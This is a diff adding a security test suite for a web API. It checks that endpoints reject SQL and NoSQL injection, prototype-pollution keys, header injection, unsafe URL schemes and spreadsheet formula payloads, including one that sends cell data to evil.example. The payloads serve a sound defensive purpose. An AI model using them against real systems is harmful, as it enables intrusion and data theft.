@@ -1,0 +1,118 @@
+import { randomUUID } from 'node:crypto';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { modules } from '#app/modules.ts';
+import { zodOf, type Endpoint } from '#core/contract/endpoint.ts';
+import { platform } from '#core/server/platform.ts';
+import { csvCell } from '#core/server/resource/export.ts';
+import { call, openTestHouse, type TestHouse } from '#core/testing/house.ts';
+import * as identity from '#modules/identity/contract.ts';
+import * as settings from '#modules/settings/contract.ts';
+import * as workspace from '#modules/workspace/contract.ts';
+import { found, join, signUp, type Place } from '../fixtures/people.ts';
+import { canaries, inputSchema } from '../generated/arbitrary.ts';
+
+const endpoints: Endpoint[] = [platform, ...modules].flatMap((m) => m.routes.map((r) => r.endpoint));
+const lists = endpoints.filter((e) => ['filter', 'sort'].every((key) => key in (inputSchema(e).properties ?? {})));
+
+let house: TestHouse;
+let place: Place;
+beforeAll(async () => {
+  house = await openTestHouse();
+  place = await found(house, await signUp(house, 'Ina'));
+});
+afterAll(() => house.close());
+
+const pathOf = (e: Endpoint) => Object.fromEntries(e.pathKeys.map((k) => [k, k === 'workspace_slug' ? place.slug : k === 'topic' ? 'workspace.member' : randomUUID()]));
+
+describe.each(lists.map((e) => [e.id, e] as const))('%s', (_id, e) => {
+  const ask = (input: Record<string, unknown>) => call(house, e, { ...pathOf(e), ...input }, place.as(place.owner));
+
+  it('sorts, groups and filters by its own fields alone', async () => {
+    const names = ['id; drop table workspace.member', 'm.id', '1', '(select 1)', '"', "'", '__proto__', 'constructor', 'toString', 'hasOwnProperty', 'standing', 'sort_name', 'account_id', 'password_hash', 'workspace_id', 'name desc, (select pg_sleep(5))', '*'];
+    for (const name of names) {
+      expect([name, (await ask({ sort: name })).status]).toEqual([name, 422]);
+      expect([name, (await ask({ sort: `-${name}` })).status]).toEqual([name, 422]);
+      if ('group' in (inputSchema(e).properties ?? {})) expect([name, (await ask({ group: name })).status]).toEqual([name, 422]);
+      expect([name, (await ask({ filter: JSON.stringify({ field: name, op: 'is', value: 'x' }) })).status]).toEqual([name, 422]);
+    }
+  });
+
+  it('reads a filter as data: no operator, depth or type of its own', async () => {
+    const deep = `${'{"and":['.repeat(300)}{"field":"name","op":"is","value":"x"}${']}'.repeat(300)}`;
+    const wide = JSON.stringify({ or: Array.from({ length: 60 }, () => ({ field: 'name', op: 'is', value: 'x' })) });
+    for (const filter of [deep.slice(0, 7999), wide, '{', 'null', '[]', '"x"', '{}', '{"and":[]}', '{"__proto__":{"field":"name"}}', '{"field":"email","op":"= \'\' or 1=1 --","value":"x"}', '{"field":"email","op":"__proto__","value":"x"}', '{"field":"email","op":"is","value":{"$ne":1}}', '{"field":"at","op":"within","value":"__proto__"}', '{"field":"at","op":"within","value":"constructor"}', '{"field":"email","op":"in","value":[["x"]]}', '{"field":"email","op":"is","value":"x","or":[]}', `{"field":"email","op":"in","value":[${'"x",'.repeat(300)}"x"]}`]) {
+      expect([filter.slice(0, 60), (await ask({ filter })).status]).toEqual([filter.slice(0, 60), 422]);
+    }
+  });
+
+  it('searches for what was typed, wildcards and quotes included', async () => {
+    for (const q of [...canaries.filter((c) => !/[\r\n]/.test(c)), '%', '_', '\\', '\\%', "' or '1'='1", '%%%%%%%%%%%%%%%%%%%%%%%%', "x' union select password_hash from identity.account --", '$1', '\u0000'.slice(1), '😀'.repeat(40)]) {
+      const { status, body } = await ask({ q, ...('limit' in (inputSchema(e).properties ?? {}) ? { limit: 5 } : {}) });
+      expect([q, status === 200 || status === 201]).toEqual([q, true]);
+      expect(JSON.stringify(body)).not.toContain('$argon2');
+    }
+  });
+});
+
+describe('texts', () => {
+  it('come back as they were typed, wherever they are kept', async () => {
+    const person = await signUp(house, 'Canary');
+    for (const canary of canaries) {
+      const plain = canary.replace(/[\r\n]+/g, ' ');
+      const answer = await call(house, identity.updateProfile, { firstName: plain, about: canary.replaceAll('\r', '') }, { token: person.token });
+      expect([canary, answer.status, answer.body.firstName]).toEqual([canary, 200, plain.trim()]);
+      expect(answer.headers['content-type']).toBe('application/json; charset=utf-8');
+    }
+    expect((await call(house, identity.updateProfile, { firstName: 'a\r\nSet-Cookie: x=1' }, { token: person.token })).status).toBe(422);
+    for (const bad of ['a\u0000b', 'a\u001bb', 'a\u007fb']) expect((await call(house, identity.updateProfile, { firstName: bad }, { token: person.token })).status).toBe(422);
+  });
+
+  it('that a spreadsheet would take for formulas are disarmed in every CSV', async () => {
+    for (const text of ['=1+1', '+1', '-1+2', '@SUM(A1)', '\t=1', '\r=1', '=cmd|\' /C calc\'!A0', '-2+3+cmd|x', '=HYPERLINK("http://evil.example?x="&A1)']) {
+      expect([text, csvCell(text).replace(/^"/, '')[0]]).toEqual([text, "'"]);
+    }
+    const owner = await signUp(house, '=2+5');
+    const evil = await found(house, owner, '@evil');
+    await join(house, evil, await signUp(house, '+31 cmd|calc'), 'member');
+    for (const e of [workspace.exportMembers, workspace.exportAudit]) {
+      const answer = await call(house, e, { workspace_slug: evil.slug }, evil.as(owner));
+      const lines = (answer.body as Buffer).toString().split('\r\n').slice(1);
+      expect(lines.length).toBeGreaterThan(1);
+      for (const cell of lines.flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)/g) ?? [])) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@\t]/);
+      expect(answer.headers['content-disposition']).toMatch(/^attachment; filename="[\w.-]+"$/);
+      expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
+    }
+  });
+
+  it('never name a page outside: links of notifications and brand addresses are checked where they enter', async () => {
+    const { version } = (await call(house, settings.getSettings, { workspace_slug: place.slug }, place.as(place.owner))).body.company;
+    for (const website of ['javascript:alert(1)', 'data:text/html,x', 'vbscript:x', ' java\tscript:alert(1)', '//evil.example', 'https:evil', 'ftp://x.test', 'https://x\n.test']) {
+      expect([website, (await call(house, settings.updateCompany, { workspace_slug: place.slug, values: { website }, version }, place.as(place.owner))).status]).toEqual([website, 422]);
+    }
+  });
+
+  it('that are keys of objects everywhere are no settings', async () => {
+    for (const key of ['constructor', '__proto__', 'toString', 'hasOwnProperty', 'valueOf']) {
+      expect([key, (await call(house, settings.resetSetting, { workspace_slug: place.slug, group: 'brand', key, version: '1' }, place.as(place.owner))).status]).toEqual([key, 422]);
+      expect([key, (await call(house, settings.updateSettings, { workspace_slug: place.slug, group: 'brand', values: { [key]: 'x' }, version: 1 }, place.as(place.owner))).status >= 400]).toEqual([key, true]);
+    }
+  });
+});
+
+describe('schemas', () => {
+  it('answer hostile texts at once: no expression runs away', () => {
+    const long = [...['a', ' ', '-', '0', '.', '@', '(', '\t', '/', '1 ', 'a.', 'a@', '+1', 'é', '😀', '\\'].map((c) => c.repeat(Math.floor(30_000 / c.length))), `${'a'.repeat(20_000)}@`, `${'a.'.repeat(10_000)}!`, `https://${'a.'.repeat(10_000)}`, `${'0'.repeat(20_000)}x`, `+${'1'.repeat(20_000)}!`];
+    for (const e of endpoints) {
+      const schema = inputSchema(e);
+      for (const key of Object.keys(schema.properties ?? {})) {
+        for (const text of long) {
+          const once = () => { const begun = performance.now(); zodOf(e.input).safeParse({ [key]: text }); return performance.now() - begun; };
+          let took = once();
+          // A busy machine is slow now and then, a runaway expression every time.
+          for (let i = 0; i < 3 && took > 100; i++) took = once();
+          if (took > 100) expect([e.id, key, text.slice(0, 5), Math.round(took)]).toEqual([e.id, key, text.slice(0, 5), 'too long']);
+        }
+      }
+    }
+  });
+});
